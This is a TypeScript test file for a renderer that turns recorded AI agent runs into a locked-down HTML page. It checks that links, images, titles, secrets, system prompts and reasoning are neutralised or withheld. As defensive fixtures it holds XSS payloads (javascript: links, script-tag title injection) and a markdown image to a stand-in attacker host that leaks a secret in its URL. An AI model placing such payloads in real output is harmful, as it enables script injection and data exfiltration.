import { createHash } from "node:crypto";
import { recordedRuns } from "@run-timeline/fixtures";
import { createRunStore } from "@run-timeline/protocol";
import { describe, expect, it } from "vitest";
import { renderHtml } from "./renderHtml.js";

const started = { type: "RUN_STARTED", threadId: "t1", runId: "r1" };
const finished = { type: "RUN_FINISHED", threadId: "t1", runId: "r1" };
const said = (delta: string, role = "assistant", messageId = "m1") => [
  { type: "TEXT_MESSAGE_START", messageId, role },
  { type: "TEXT_MESSAGE_CONTENT", messageId, delta },
  { type: "TEXT_MESSAGE_END", messageId },
];
const called = (args: string, content: string) => [
  { type: "TOOL_CALL_START", toolCallId: "c1", toolCallName: "t" },
  { type: "TOOL_CALL_ARGS", toolCallId: "c1", delta: args },
  { type: "TOOL_CALL_END", toolCallId: "c1" },
  { type: "TOOL_CALL_RESULT", messageId: "res-c1", toolCallId: "c1", content },
];
const bodyOf = (html: string) => html.slice(html.indexOf("<body"));

describe.each(recordedRuns.map((run) => [run.name, run] as const))("the page of %s", (_, run) => {
  it("holds both views, and nothing that runs, loads or styles by itself", () => {
    const html = renderHtml([...run.events()].slice(0, 700));
    const body = bodyOf(html);
    // What is text is escaped, so that every `<` begins an element.
    const tags = (body.match(/<[^>]*>/g) ?? []).join("\n");
    expect(tags).not.toMatch(/<(script|iframe|object|embed|link|base|form|meta)\b/i);
    const names = tags.replace(/="[^"]*"/g, "=");
    expect(names).not.toMatch(/\s(on\w+|style|srcdoc|action)=/i);
    for (const [, value] of tags.matchAll(/\s(?:href|src)="([^"]*)"/g)) {
      expect(value).toMatch(/^(https?:|mailto:|data:image\/)/);
    }
    expect(body).not.toMatch(/<img[^>]*src="https?:/);
    expect(html).toContain('http-equiv="Content-Security-Policy"');
    expect(body).toContain('id="grouped-rows"');
    expect(body).toContain('id="in-order-rows"');
    expect(body).not.toContain("NaN");
  });
});

it("draws a call once, also one that stands alone in its group", () => {
  const body = bodyOf(renderHtml([started, ...called('{"path":"only.md"}', "ok"), finished]));
  const grouped = body.slice(body.indexOf("grouped-rows"), body.indexOf("in-order-rows"));
  expect(grouped.match(/data-kind="tool-call"/g)).toHaveLength(1);
});

it("B145: what a model or a tool wrote makes no active link", () => {
  const body = bodyOf(
    renderHtml([
      started,
      ...said(
        "[a](javascript:alert(1)) [c](data:text/html,<script>1</script>) <https://ok.example> [f](javascript&#58;alert(1))",
      ),
      ...called('{"url":"javascript:alert(1)"}', "[x](javascript:alert(2))"),
      finished,
    ]),
  );
  expect([...body.matchAll(/href="([^"]*)"/g)].map(([, href]) => href)).toEqual([
    "https://ok.example/",
  ]);
  expect(body).toContain("[x](javascript:alert(2))");
});

it("B147: no image of another host is in it, and the host is named", () => {
  const body = bodyOf(
    renderHtml([
      started,
      ...said(
        '![x](https://evil.example/p.png?leak=SECRET) <img src="https://evil.example/r"> ![ok](data:image/png;base64,iVBORw0KGgo=)',
      ),
      finished,
    ]),
  );
  expect([...body.matchAll(/<img[^>]*src="([^"]*)"/g)].map(([, src]) => src)).toEqual([
    "data:image/png;base64,iVBORw0KGgo=",
  ]);
  expect(body).toContain("evil.example, not loaded");
});

const hidden = [
  { ...started, rawEvent: { headers: { authorization: "Bearer SECRET" } } },
  ...said("be careful INSTRUCTION", "system", "s1"),
  ...said("DEVELOPER note", "developer", "d1"),
  { type: "REASONING_START", messageId: "t" },
  { type: "REASONING_MESSAGE_START", messageId: "t", role: "reasoning" },
  { type: "REASONING_MESSAGE_CONTENT", messageId: "t", delta: "think hard" },
  { type: "REASONING_MESSAGE_END", messageId: "t" },
  { type: "REASONING_END", messageId: "t" },
  { type: "REASONING_ENCRYPTED_VALUE", subtype: "message", entityId: "t", encryptedValue: "ENC" },
  { type: "RAW", event: { secret: "PROVIDER" }, source: "acme" },
  { type: "SOMETHING_NEW", rawEvent: "SECRET2" },
  { type: "TOOL_CALL_START", toolCallId: "c1", toolCallName: "f" },
  { type: "TOOL_CALL_ARGS", toolCallId: "c1", delta: "{}" },
  { type: "TOOL_CALL_END", toolCallId: "c1" },
  { type: "RUN_ERROR", message: "boom" },
];

it("B162: keeps what must not leave, and tells the rest", () => {
  const html = bodyOf(renderHtml(hidden));
  for (const word of ["SECRET", "ENC", "INSTRUCTION", "DEVELOPER note", "think hard", "PROVIDER"]) {
    expect(html).not.toContain(word);
  }
  expect(html).toContain("boom");
  expect(html).toContain("No result");
  expect(bodyOf(renderHtml(hidden, { reasoning: true }))).toContain("think hard");
});

it("holds the style sheet that its policy names", () => {
  const html = renderHtml([started, finished]);
  const [, sheet = ""] = /<style>([\s\S]*?)<\/style>/.exec(html) ?? [];
  expect(sheet.length).toBeGreaterThan(20_000);
  expect(html).toContain(createHash("sha256").update(sheet).digest("base64"));
});

it("has a title that is text, whatever it is", () => {
  const html = renderHtml([started, finished], { title: "</title><script>alert(1)</script>" });
  expect(html).not.toContain("<script");
});

it("tells what the client said, from a store", () => {
  const store = createRunStore();
  store.addMessage({ id: "u1", role: "user", content: "Process the RSVPs." });
  store.push([started, ...said("Done."), finished]);
  expect(bodyOf(renderHtml(store))).toContain("Process the RSVPs.");
});

it("says that a run was cut off", () => {
  expect(bodyOf(renderHtml([started, ...said("half").slice(0, 2)]))).toContain("Ended early");
});
